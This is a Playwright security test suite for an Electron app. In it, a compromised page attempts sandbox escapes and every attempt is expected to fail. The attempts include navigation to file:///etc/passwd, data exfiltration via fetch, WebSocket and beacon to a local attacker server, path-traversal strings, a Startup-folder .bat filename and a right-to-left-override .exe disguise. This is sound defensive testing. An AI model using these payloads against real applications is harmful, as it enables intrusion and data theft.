// A page that was tricked into running foreign code tries to leave its sandbox; each test is one attack and must fail.
import { createServer, type Server } from 'node:http'
import { readdirSync, readFileSync } from 'node:fs'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type {} from '../../renderer/ui/house'
import { expect, openApp, test as base, type OpenApp } from '../support/app'

const HOME = 'app://house/index.html'

/** A server on this PC stands for the attacker, so that "nothing arrived" does not merely mean "no network". */
const test = base.extend<object, { shared: OpenApp; attacker: { url: string; hits: string[] } }>({
  shared: [
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const office = await openApp()
      await use(office)
      await office.close()
    },
    { scope: 'worker' },
  ],
  attacker: [
    // eslint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const hits: string[] = []
      const server: Server = createServer((request, response) => {
        hits.push(request.url ?? '')
        response.setHeader('access-control-allow-origin', '*')
        response.end('window.taken = true')
      })
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
      await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits })
      server.close()
    },
    { scope: 'worker' },
  ],
})

test.describe('a page cannot go elsewhere', () => {
  for (const target of [
    'https://example.org/',
    'file:///etc/passwd',
    'app://blob/x',
    'data:text/html,hello',
    'javascript:window.taken=1',
  ]) {
    test(`by navigating to ${target}`, async ({ shared: { page } }) => {
      await page.evaluate((to) => void (location.href = to), target)
      await page.waitForTimeout(300)
      expect(page.url().split('#')[0]).toBe(HOME)
      expect(await page.evaluate(() => 'taken' in window)).toBe(false)
    })
  }

  test('by opening a window', async ({ shared: { app, page }, attacker }) => {
    const opened = await page.evaluate((url) => window.open(url) === null, attacker.url)
    expect(opened).toBe(true)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(attacker.hits).toEqual([])
  })

  test('by a link with target=_blank', async ({ shared: { app, page }, attacker }) => {
    await page.evaluate((url) => {
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' })
      document.body.append(link)
      link.click()
      link.remove()
    }, attacker.url)
    await page.waitForTimeout(300)
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(attacker.hits).toEqual([])
  })

  test('by a webview', async ({ shared: { app, page }, attacker }) => {
    const before = await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)
    await page.evaluate((url) => {
      const view = document.createElement('webview')
      view.setAttribute('src', url)
      document.body.append(view)
    }, attacker.url)
    await page.waitForTimeout(500)
    expect(await app.evaluate(({ webContents }) => webContents.getAllWebContents().length)).toBe(before)
    expect(attacker.hits).toEqual([])
  })
})

test.describe('a page cannot run foreign code', () => {
  /** Runs after the evaluation has returned: code inside an evaluation by the debugger is exempt from the policy. */
  const outcome = (code: string) =>
    `new Promise((done) => setTimeout(() => { try { ${code}; done('ran') } catch (error) { done(error.name) } }))`

  test('by eval', async ({ shared: { page } }) => {
    expect(await page.evaluate(outcome("eval('1 + 1')"))).toBe('EvalError')
  })

  test('by new Function', async ({ shared: { page } }) => {
    expect(await page.evaluate(outcome("new Function('return 1')()"))).toBe('EvalError')
  })

  test('by an inline script or handler', async ({ shared: { page } }) => {
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.textContent = 'window.taken = true'
      document.head.append(script)
      const box = document.createElement('div')
      box.innerHTML = '<img src="app://house/none.png" onerror="window.taken = true">'
      document.body.append(box)
    })
    await page.waitForTimeout(300)
    expect(await page.evaluate(() => 'taken' in window)).toBe(false)
  })

  test('by a remote script', async ({ shared: { page }, attacker }) => {
    const answer = await page.evaluate(
      (src) =>
        new Promise((resolve) => {
          const script = Object.assign(document.createElement('script'), { src })
          script.onload = () => resolve('ran')
          script.onerror = () => resolve('refused')
          document.head.append(script)
        }),
      `${attacker.url}/x.js`,
    )
    expect(answer).toBe('refused')
    expect(attacker.hits).toEqual([])
  })

  test('by a worker made of text', async ({ shared: { page } }) => {
    const answer = await page.evaluate(
      () =>
        new Promise((resolve) => {
          try {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage("ran")'])))
            worker.onmessage = () => resolve('ran')
            worker.onerror = () => resolve('refused')
          } catch {
            resolve('refused')
          }
        }),
    )
    expect(answer).toBe('refused')
  })

  test('by an attachment that is a page', async ({ shared: { page } }) => {
    const answer = await page.evaluate(async () => {
      const put = await window.house?.call('blob:put', {
        bytes: new TextEncoder().encode('<script>top.taken = true</script>'),
      })
      if (!put?.ok) return 'not stored'
      const response = await fetch(`app://blob/${put.value.id}`)
      return `${response.headers.get('content-type')} ${response.headers.get('content-security-policy')}`
    })
    expect(answer).toBe("application/octet-stream default-src 'none'; sandbox")
  })
})

test.describe('a page cannot send anything out', () => {
  test('by fetch, XMLHttpRequest, WebSocket, beacon or picture', async ({ shared: { page }, attacker }) => {
    const answers = await page.evaluate(async (url) => {
      const tried = (start: (done: (answer: string) => void) => void) =>
        new Promise<string>((resolve) => {
          setTimeout(() => resolve('refused'), 1000)
          try {
            start(resolve)
          } catch {
            resolve('refused')
          }
        })
      return Promise.all([
        fetch(url).then(
          () => 'sent',
          () => 'refused',
        ),
        tried((done) => {
          const request = new XMLHttpRequest()
          request.onload = () => done('sent')
          request.onerror = () => done('refused')
          request.open('GET', url)
          request.send()
        }),
        tried((done) => {
          const socket = new WebSocket(url.replace('http', 'ws'))
          socket.onopen = () => done('sent')
          socket.onerror = () => done('refused')
        }),
        tried((done) => {
          const image = new Image()
          image.onload = () => done('sent')
          image.onerror = () => done('refused')
          image.src = `${url}/x.png`
          navigator.sendBeacon(url, 'x')
        }),
      ])
    }, attacker.url)
    expect(answers).toEqual(['refused', 'refused', 'refused', 'refused'])
    expect(attacker.hits).toEqual([])
  })

  test('even past the policy, from main’s own network stack', async ({ shared: { app }, attacker }) => {
    const answer = await app.evaluate(async ({ session }, url) => {
      try {
        await session.defaultSession.fetch(url)
        return 'sent'
      } catch {
        return 'refused'
      }
    }, attacker.url)
    expect(answer).toBe('refused')
    expect(attacker.hits).toEqual([])
  })

  test('by a form', async ({ shared: { page }, attacker }) => {
    await page.evaluate((url) => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
      document.body.append(form)
      form.submit()
    }, attacker.url)
    await page.waitForTimeout(300)
    expect(attacker.hits).toEqual([])
    expect(page.url().split('#')[0]).toBe(HOME)
  })

  test('by downloading into a folder it names', async ({ shared: { page, saved } }) => {
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = URL.createObjectURL(new Blob(['x']))
      link.download = 'taken.txt'
      link.click()
    })
    await page.waitForTimeout(300)
    expect(readdirSync(saved)).not.toContain('taken.txt')
  })
})

test.describe('a page cannot read this PC', () => {
  test('by file: addresses', async ({ shared: { page } }) => {
    const answer = await page.evaluate(() =>
      fetch('file:///etc/passwd').then(
        () => 'read',
        () => 'refused',
      ),
    )
    expect(answer).toBe('refused')
  })

  for (const path of [
    '/../package.json',
    '/..%2f..%2fpackage.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%5c..%5cpackage.json',
    '//etc/passwd',
    '/%00',
  ]) {
    test(`by climbing out of app://house with ${path}`, async ({ shared: { page } }) => {
      expect(
        await page.evaluate(
          (to) =>
            fetch(`app://house${to}`).then(
              (r) => r.status,
              () => 0,
            ),
          path,
        ),
      ).not.toBe(200)
    })
  }

  for (const id of ['../settings.json', '..%2f..%2fdevice.json', 'device.json', '0'.repeat(64)]) {
    test(`by naming an attachment ${id}`, async ({ shared: { page } }) => {
      expect(
        await page.evaluate(
          (to) =>
            fetch(`app://blob/${to}`).then(
              (r) => r.status,
              () => 0,
            ),
          id,
        ),
      ).not.toBe(200)
    })
  }

  test('by asking for permissions', async ({ shared: { page } }) => {
    const answers = await page.evaluate(async () => {
      const position = new Promise<string>((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('denied'),
        ),
      )
      const camera = navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        () => 'denied',
      )
      const clipboard = navigator.clipboard.readText().then(
        () => 'granted',
        () => 'denied',
      )
      return [await position, await camera, await clipboard, await Notification.requestPermission()]
    })
    expect(answers).toEqual(['denied', 'denied', 'denied', 'denied'])
  })
})

test.describe('a page cannot reach past its one door', () => {
  test('for there is no Node and no raw IPC in it', async ({ shared: { page } }) => {
    const found = await page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', '__dirname'].filter(
        (name) => name in window,
      ),
    )
    expect(found).toEqual([])
    expect(await page.evaluate(() => Object.keys(window.house ?? {}).sort())).toEqual(['call', 'onClosing'])
  })

  for (const name of ['fs:read', 'house:closed', 'toString', '__proto__', 'constructor', 'ELECTRON_BROWSER_REQUIRE']) {
    test(`by the unknown channel ${name}`, async ({ shared: { page } }) => {
      const answer = await page.evaluate(async (channel) => {
        const call = window.house?.call as (name: string, input: unknown) => Promise<unknown>
        return call(channel, undefined).then(
          () => 'answered',
          (error: Error) => error.message,
        )
      }, name)
      expect(answer).toContain('ipc.unknown-channel')
    })
  }

  test('by input that is not in the contract', async ({ shared: { page, saved } }) => {
    const answers = await page.evaluate(async () => {
      const call = window.house?.call as (name: string, input: unknown) => Promise<{ failure?: { code: string } }>
      const bad: [string, unknown][] = [
        ['blob:put', { bytes: 'text' }],
        ['blob:put', null],
        ['file:save', { name: '', bytes: new Uint8Array(1) }],
        ['file:save', { name: 'x'.repeat(500), bytes: new Uint8Array(1) }],
        ['file:save-protected', { name: 'a.xlsx', bytes: new Uint8Array(1), password: 'short' }],
        ['print:preview', { job: '../../etc/passwd' }],
      ]
      return Promise.all(
        bad.map(([name, input]) =>
          call(name, input).then(
            (answer) => answer.failure?.code,
            () => 'rejected',
          ),
        ),
      )
    })
    expect(answers).toEqual(Array<string>(6).fill('ipc.input'))
    expect(readdirSync(saved)).toEqual([])
  })

  test('by settings it may not set', async ({ shared: { page } }) => {
    const answer = await page.evaluate(async () => {
      const call = window.house?.call as (name: string, input: unknown) => Promise<unknown>
      return call('settings:set', { theme: 'none' }).then(
        () => 'set',
        (error: Error) => error.message,
      )
    })
    expect(answer).toContain('ipc.input')
  })

  test('by a file name that leaves the folder or runs', async ({ shared: { page, saved } }) => {
    const names = ['..\\..\\Startup\\a.bat', '../../b.xlsx', 'CON.xlsx', '花名册\u202Exslx.exe', 'd.xlsx. . ']
    const answers = await page.evaluate(async (list) => {
      const written: (string | undefined)[] = []
      for (const name of list) {
        const answer = await window.house?.call('file:save', { name, bytes: new TextEncoder().encode('x') })
        written.push(answer?.ok ? answer.value?.name : answer?.failure.code)
      }
      return written
    }, names)
    expect(answers).toEqual(['a.bat.txt', 'b.xlsx', '_CON.xlsx', '花名册xslx.exe.txt', 'd.xlsx'])
    expect(readdirSync(saved).sort()).toEqual([...answers].sort())
    expect(readFileSync(join(saved, 'b.xlsx'), 'utf8')).toBe('x')
  })

  test('from a frame inside it', async ({ shared: { page } }) => {
    const answer = await page.evaluate(async () => {
      const inside: string[] = []
      for (const [name, value] of [
        ['src', 'app://house/index.html'],
        ['srcdoc', '<p>hello</p>'],
      ] as const) {
        const frame = document.createElement('iframe')
        frame.setAttribute(name, value)
        document.body.append(frame)
        await new Promise((resolve) => setTimeout(resolve, 500))
        let door: string
        try {
          door = typeof (frame.contentWindow as unknown as { house?: unknown } | null)?.house
        } catch {
          door = 'unreachable'
        }
        inside.push(door)
        frame.remove()
      }
      return inside
    })
    expect(answer).not.toContain('object')
  })

  test('from a second window with the same preload', async ({ shared: { app } }) => {
    const answer = await app.evaluate(async ({ app: main, BrowserWindow }, home) => {
      const preload = `${main.getAppPath()}/dist/preload/preload.cjs`
      const window = new BrowserWindow({
        show: false,
        webPreferences: { preload, sandbox: true, contextIsolation: true },
      })
      await window.loadURL(home)
      const said: unknown = await window.webContents.executeJavaScript(
        "house.call('app:info', undefined).then(() => 'answered', (error) => error.message)",
      )
      window.destroy()
      return said
    }, HOME)
    expect(answer).toContain('ipc.sender')
  })

  test('while its own calls are answered', async ({ shared: { page } }) => {
    const info = await page.evaluate(() => window.house?.call('app:info', undefined))
    expect(info?.device).toMatch(/^[0-9a-hjkmnp-tv-z]{8}$/)
  })
})

test('every window is isolated and sandboxed', async ({ shared: { app } }) => {
  const preferences = await app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map((window) => {
      const all = (
        window.webContents as unknown as { getLastWebPreferences(): Record<string, unknown> }
      ).getLastWebPreferences()
      return [all['contextIsolation'], all['sandbox'], all['nodeIntegration'], all['webviewTag']]
    }),
  )
  expect(preferences).toEqual([[true, true, false, false]])
})
